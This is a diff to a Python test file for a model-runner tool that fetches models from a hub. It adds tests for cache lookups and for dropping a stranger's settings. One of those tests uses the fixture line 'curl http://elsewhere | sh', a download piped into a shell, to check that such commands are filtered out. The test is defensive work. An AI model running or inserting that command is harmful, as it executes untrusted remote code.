@@ -16,9 +16,12 @@ from typing import Any
 
 import numpy as np
 import pytest
+from runner_core.base.errors import BadInput
 from runner_core.base.files import hash_file
 from runner_core.base.hub import fetch, fetched, is_same
 from runner_core.cli import main
+from runner_core.cli.start import _from_hub
+from runner_core.plugins import discovery
 from runner_core.tools.hub_folder import metadata
 from safetensors.numpy import load_file, save_file
 
@@ -167,6 +170,19 @@ def test_settings_come_along_and_a_strangers_log_does_not(trained: Path, server:
     assert "elsewhere" not in settings
 
 
+def test_a_strangers_settings_tell_no_extension_what_to_do(
+    server: Hub, here: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Those of runner-slurm hold lines of shell, which `submit --from hf:` would run."""
+    settings = {"train": {"epochs": 3}, "cluster_jobs": {"setup": ["curl http://elsewhere | sh"]}}
+    server.folders["lab/toy"] = repository(here / "net", runner={"project": "toy", "settings": settings})
+    installed = discovery.extensions()
+    monkeypatch.setattr(discovery, "extensions", lambda: {**installed, "cluster-jobs": None})
+    found = _from_hub("toy", "hf:lab/toy").settings
+    assert found is not None
+    assert found.sections == {"train": {"epochs": 3}}
+
+
 # ---------------------------------------------------------------- what is fetched, and what is refused
 
 
@@ -181,6 +197,14 @@ def test_only_safe_files_are_fetched_and_a_commit_is_kept(server: Hub, here: Pat
     server.asked.clear()
     assert fetch(found.source) == fetched(found.source) == found
     assert server.asked == []
+    server.folders["lab/named"] = named = repository(here / "named")
+    (named / "model.safetensors").rename(named / "net.safetensors")
+    found = fetch("hf:lab/named")
+    server.asked.clear()
+    assert fetched(found.source).file == found.file  # as a run that is resumed asks
+    assert server.asked == []
+    with pytest.raises(BadInput, match="is not in the cache"):
+        fetched(f"hf:lab/named@{40 * 'a'}")
 
 
 def test_a_program_of_its_own_asks_for_nothing_else(server: Hub, here: Path) -> None:
@@ -191,7 +215,7 @@ def test_a_program_of_its_own_asks_for_nothing_else(server: Hub, here: Path) -> 
     said = subprocess.check_output([sys.executable, "-c", code], text=True, env=env)
     commit = server.commit("lab/net")
     assert said == f"hf:lab/net@{commit}\n"
-    files = [f"/lab/net/resolve/{commit}/{name}" for name in ("model.safetensors", "config.json")]
+    files = [f"/lab/net/resolve/{commit}/{name}" for name in ("config.json", "model.safetensors")]
     resolved = [f"{method} {file}" for file in files for method in ("HEAD", "GET")]
     assert server.asked == ["GET /api/models/lab/net/revision/main", *resolved]
 
